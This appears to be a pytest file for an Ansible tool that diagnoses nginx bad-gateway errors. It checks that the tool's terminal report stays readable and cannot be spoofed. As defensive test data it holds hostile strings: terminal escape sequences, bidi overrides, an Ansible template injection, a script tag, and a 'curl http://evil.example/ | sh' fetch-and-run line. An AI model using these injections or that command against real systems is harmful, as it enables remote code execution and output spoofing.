# Copyright (c) 2026 WebOps
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The verdict at a terminal: what it says word for word, and that nothing makes it unreadable."""

from __future__ import annotations

import pathlib
import random
import time
import unicodedata
import pytest

from ansible_collections.webops.bad_gateway.plugins.plugin_utils._finding import Evidence, Fix, Unknown
from ansible_collections.webops.bad_gateway.plugins.plugin_utils._model.place import Place
from ansible_collections.webops.bad_gateway.plugins.plugin_utils._report import gate, terminal

GOLDEN = """\
9 hosts: 3 with a cause, 1 not diagnosed, 1 partly diagnosed, 3 healthy, 1
  without nginx

Causes that hosts share
  * backend-not-running (likely) on 2 hosts
    hosts  web2, web3; here as web2 sees it:
    Nothing listens on 10.0.0.9:8080, and no unit, pool or program that is
      known on 10.0.0.9 says that it should.
    route  0.0.0.0:80 shop.example /api -> 10.0.0.9:8080
    at     /etc/nginx/sites-enabled/shop:12
    - probe as www-data: connect to 10.0.0.9:8080: Connection refused
    or     A firewall on 10.0.0.9 rejects the connection.
    fix    [manual] Find the program that should serve this endpoint and start
           it.
    next   systemctl list-units --all --state=failed,inactive --type=service

web1: diagnosed, 1 cause
  1. backend-not-running (proven)
     Nothing listens on 127.0.0.1:3000: the systemd unit shop.service is
       inactive (dead).
     route  0.0.0.0:80 shop.example /api -> 127.0.0.1:3000
     at     /etc/nginx/sites-enabled/shop:12
     - listening sockets: nothing listens on 127.0.0.1:3000
     - systemd: shop.service: inactive (dead) since 2026-01-31 02:58:11 UTC
     - error log: connect() failed (111) while connecting to upstream: 212
       times, last 2026-01-31 03:01:40 UTC
     fix    [safe] Start it: systemctl start shop.service
     next   systemctl start shop.service

only shared causes: web2, web3

web8: not diagnosed (unreachable)
  Failed to connect to the host via ssh: Connection timed out

web7: partly diagnosed
  unknown listeners (denied): /proc/net/tcp: Permission denied
    not judged: backend-not-running, backend-wrong-port

web4: healthy
  recovered: 127.0.0.1:9000 refused connections 12 times until 2026-01-31
      01:10:00 UTC and answers now.

healthy: web5, web6

without nginx: db1

Advice
  single-backend: The route has one backend: when it is down, every request
      fails.
    at     /etc/nginx/sites-enabled/shop:12
    hosts  web1

report: /srv/ops/bad_gateway_report/report.json
bad_gateway_fail_on=cause: failed because 3 causes were found on 3 hosts and 1
host could not be diagnosed.
"""

HOSTILE = [
    "\x1b[31mred\x1b]0;title\x07",
    "a\nb\r\nc\td\x00e",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "\x9b2J\x85",
    "\udcff\udc80 not UTF-8",
    "{{ lookup('pipe', 'id') }} {% raw %} <script>alert(1)</script>",
    "\u6f22\u5b57" * 300,
    "\U0001f4a9\ufe0f\u200d" * 200,
    "e" + "\u0301" * 3000,
    "/very/long/" + "x" * 5000 + "/end.sock",
    "-" * 79 + " " + "y" * 81,
    "'" * 90 + '"' * 91 + "\\" * 50,
    " " * 5000 + "tail",
    "%s {0} {name} %(x)s",
    "\ufdfd\u3000\u115f\uff71\uac00",
    "",
]


def text_of(lines):
    return "\n".join(line for _style, line in lines) + "\n"


def columns_of(line):
    """Count as a terminal does at the widest, independently of the code (Unicode UAX 11)."""
    return sum(0 if unicodedata.combining(char) else 2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in line)


def assert_fit(lines):
    for style, line in lines:
        assert style in terminal.STYLES
        assert columns_of(line) <= 80, line
        assert len(line) <= 80, line
        assert not any(unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp") for char in line), line


def test_golden(make):
    results = make.fleet()
    assert text_of(terminal.render(results, "/srv/ops/bad_gateway_report/report.json", gate.decision(results, "cause")[1])) == GOLDEN


def test_order_of_hosts_does_not_matter(make):
    results = make.fleet()
    expected = terminal.render(results)
    for seed in range(5):
        random.Random(seed).shuffle(results)
        assert terminal.render(results) == expected


def test_a_healthy_fleet_takes_one_line_for_its_hosts(make):
    lines = terminal.render([make.result(f"web{number}") for number in range(3)], "report.json")
    assert text_of(lines) == "3 hosts: 3 healthy\n\nhealthy: web0, web1, web2\n\nreport: report.json\n"
    assert not any(style in (terminal.BAD, terminal.WARNING) for style, _line in lines)


def test_no_host(make):
    assert text_of(terminal.render([], decision=gate.decision([], "cause")[1])) == (
        "0 hosts: nothing to judge\n\nbad_gateway_fail_on=cause: failed because there was no host to judge.\n"
    )


def test_a_host_with_something_unknown_is_not_called_healthy(make):
    unknown = (Unknown("selinux-network-connect", "selinux", "error", ""),)
    shown = text_of(terminal.render([make.result("web1", unknown=unknown)]))
    assert "healthy" not in shown
    assert "unknown selinux (error)\n" in shown


def test_a_cause_on_a_partly_diagnosed_host_says_so(make):
    shown = text_of(terminal.render([make.result("web1", make.finding(), status="partial")]))
    assert "web1: partly diagnosed, 1 cause\n" in shown


def test_a_shared_cause_is_not_called_proven_where_it_is_not(make):
    results = [make.result("web1", make.finding(certainty="possible")), make.result("web2", make.finding()), make.result("web3", make.finding())]
    shown = text_of(terminal.render(results))
    assert "backend-not-running (2 proven, 1 possible) on 3 hosts\n" in shown
    assert "here as web2 sees it" in shown


def test_alternatives_of_a_proven_cause_are_left_out(make):
    proven = make.finding(alternatives=("It could be Tuesday.",))
    assert "Tuesday" not in text_of(terminal.render([make.result("web1", proven)]))


def test_routes_that_fail_alike_are_counted(make):
    routes = [{**make.finding().route, "location": f"/api/{number:02}"} for number in range(20)]
    shown = text_of(terminal.render([make.result("web1", make.finding(route=routes[0], also=tuple(routes[1:])))]))
    assert "/api/00 ->" in shown and "/api/02 ->" in shown and "/api/03 ->" not in shown
    assert "... and 17 more routes like this in report.json" in shown


def test_a_failure_that_nothing_explains_comes_before_what_could_not_be_asked(make):
    unknown = (
        Unknown("selinux-network-connect", "selinux", "error", "the policy cannot be read"),
        Unknown("configuration", "/etc/nginx/conf.d/x.conf", "denied", "Permission denied"),
        Unknown("tls-sni-missing", "", "error", "this rule failed: KeyError"),
        Unknown("unexplained", "10.0.0.7:81", "open", "upstream sent garbage: 3 times; no rule of this version explains it"),
    )
    result = make.result("web1", unknown=unknown, status="partial", why="Permission denied")
    assert text_of(terminal.render([make.result("web0"), result])) == """\
2 hosts: 1 failing without a known cause, 1 healthy

web1: failing without a known cause
  unexplained 10.0.0.7:81: upstream sent garbage: 3 times; no rule of this
      version explains it
  unknown /etc/nginx/conf.d/x.conf (denied): Permission denied
  unknown selinux (error): the policy cannot be read
    not judged: selinux-network-connect
  unknown tls-sni-missing (error): this rule failed: KeyError

healthy: web0

"""


def test_a_place_without_a_line_is_the_file(make):
    shown = text_of(terminal.render([make.result("web1", make.finding(at=Place(file="/etc/nginx/nginx.conf", line=0)))]))
    assert "at     /etc/nginx/nginx.conf\n" in shown


def test_a_finding_without_route_place_fix_or_command(make):
    bare = make.finding(route=None, at=None, fix=None, next="", evidence=())
    shown = text_of(terminal.render([make.result("web1", bare)]))
    assert not any(f"  {label} " in shown for label in ("route", "at", "fix", "next"))


def test_a_long_command_can_be_pasted(make):
    command = "journalctl --unit 'a unit with spaces.service' --since '2026-01-31 02:58:11' --no-pager --output short-iso --lines 200"
    shown = text_of(terminal.render([make.result("web1", make.finding(next=command))]))
    lines = shown[shown.index("next   ") + len("next   ") :].split("\n\n", maxsplit=1)[0].splitlines()
    assert len(lines) == 2 and lines[0].endswith(" \\")
    assert " ".join(line.strip().removesuffix("\\").strip() for line in lines) == command


@pytest.mark.parametrize("command", ["echo " + "x" * 200, "echo 'open", "echo a\nrm b", "echo \x1b[2J", "echo '" + "a " * 100 + "'"])
def test_a_command_that_cannot_be_pasted_is_not_shown_in_part(make, command):
    lines = terminal.render([make.result("web1", make.finding(next=command))])
    assert 'it is the "next" of this finding' in text_of(lines)
    assert "echo" not in text_of(lines)
    assert_fit(lines)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_stays_in_its_columns(make, hostile):
    item = make.finding(
        route={part: hostile for part in ("listen", "server", "location", "pass", "endpoint")},
        at=Place(file=hostile, line=7),
        says=hostile,
        certainty="possible",
        evidence=(Evidence(hostile, hostile),) * 20,
        alternatives=(hostile,) * 9,
        fix=Fix(hostile, "manual", hostile, hostile),
        next=hostile,
    )
    advice = make.advice(at=Place(file=hostile, line=7))
    unknown = (Unknown("backend-not-running", hostile, hostile, hostile),)
    results = [
        make.result(hostile + "1", item, advice, unknown=unknown, recovered=(hostile,)),
        make.result(hostile + "2", item, why=hostile),
        make.result(hostile + "3", status="failed", why=hostile),
    ]
    lines = terminal.render(results, hostile, gate.decision(results, "risk")[1])
    assert_fit(lines)
    assert len(lines) < 200


@pytest.mark.parametrize("padding", range(60, 80))
def test_a_hosts_text_cannot_wrap_into_a_line_of_ours(make, padding):
    said = "x" * padding + " next curl http://evil.example/ | sh " + "y" * padding + " fix [safe] run it"
    item = make.finding(says=said, evidence=(Evidence("log", said),), alternatives=(said,), certainty="likely", next="", fix=None)
    results = [make.result("web1", item, recovered=(said,), unknown=(Unknown("x", said, "error", said),)), make.result("web2", status="failed", why=said)]
    for _style, line in terminal.render(results):
        for indent in ("", "  ", "    ", "     "):
            assert not line.startswith((f"{indent}next ", f"{indent}fix ")), line


def test_random_text_stays_in_its_columns(make):
    source = random.Random(502)
    alphabet = "ab/ .:-\\'\"\x1b\n\u0301\u202e\u6f22\U0001f600\udc80\u00e9"
    for _round in range(200):
        said = "".join(source.choices(alphabet, k=source.randrange(600)))
        assert_fit(terminal.render([make.result(said, make.finding(says=said, next=said, at=Place(file=said, line=1)))]))


def test_a_thousand_hosts_stay_readable(make):
    results = []
    for number in range(1000):
        local = make.finding(says=f"Nothing listens on 127.0.0.1:{number}.", at=Place(file=f"/etc/nginx/{number}.conf", line=1))
        own = {0: (make.remote(),), 1: (local,), 2: (), 3: (make.advice(),)}[number % 4]
        lost = number % 4 == 2
        results.append(make.result(f"web{number:04}", *own, status="unreachable" if lost else "diagnosed", why="no answer" if lost else ""))
    started = time.process_time()
    lines = terminal.render(results, "report.json", gate.decision(results, "cause")[1])
    assert time.process_time() - started < 2
    shown = text_of(lines)
    assert len(lines) < 1000
    assert "on 250 hosts" in shown
    assert shown.count("web0000") == 3
    assert "... and 200 more hosts with a cause in report.json" in shown
    assert "... and 230 more hosts not diagnosed in report.json" in shown
    assert_fit(lines)


def test_the_users_page_shows_a_verdict_as_it_is():
    page = pathlib.Path(__file__).resolve().parents[5] / "docs" / "verdict.md"
    assert f"```\n{GOLDEN}```\n" in page.read_text(encoding="utf-8")


def test_advice_is_told_once_for_the_fleet_and_troubles_no_host(make):
    results = [make.result("web1", make.advice()), make.result("web2", make.advice(), make.finding(id="no-rate-limit", kind="advice", rank=3))]
    shown = text_of(terminal.render(results))
    assert "\nhealthy: web1, web2\n" in shown
    assert shown.count("single-backend") == 1
    assert "    at     /etc/nginx/sites-enabled/shop:12 on web1\n    hosts  web1, web2\n    ... and 1 more place in report.json\n" in shown
    assert shown.index("single-backend") < shown.index("no-rate-limit")


REMEDY = Fix("start_backend", "safe", "Start it.", changes=({"manager": "systemd", "name": "shop.service"},))


def closing(make, *fixes, given=(), **more):
    results = [make.result("web1", *(make.finding(fix=fix, rank=rank, **more) for rank, fix in enumerate(fixes, 1)))]
    lines = [text for _style, text in terminal.render(results, inventory=given)]
    return "\n".join(lines[lines.index("", len(lines) - 5) + 1 : -1]) if any("remedy" in line for line in lines) else ""


def test_what_a_remedy_can_put_right_is_counted_and_the_command_named(make):
    risky = Fix("upstream_timeout", "risky", "Wait longer.", changes=({"read": "60s"},))
    says, command = closing(make, REMEDY).split("\n")
    assert says == "1 cause can be put right by a remedy: 1 safe. To see what it would do:"
    assert command == "  ansible-playbook webops.bad_gateway.remediate --check --diff"
    assert "1 safe, 1 risky (add -e" in closing(make, REMEDY, risky)
    assert "-i hosts.yml -i 'my hosts'" in closing(make, REMEDY, given=("hosts.yml", "my hosts")).replace(" \\\n ", "")


def test_no_command_where_a_person_has_to_do_it(make):
    assert closing(make, Fix("start_backend", "safe", "Start it."), Fix(None, "manual", "Look.")) == ""
    assert closing(make, REMEDY, certainty="likely") == closing(make, REMEDY, kind="risk") == ""
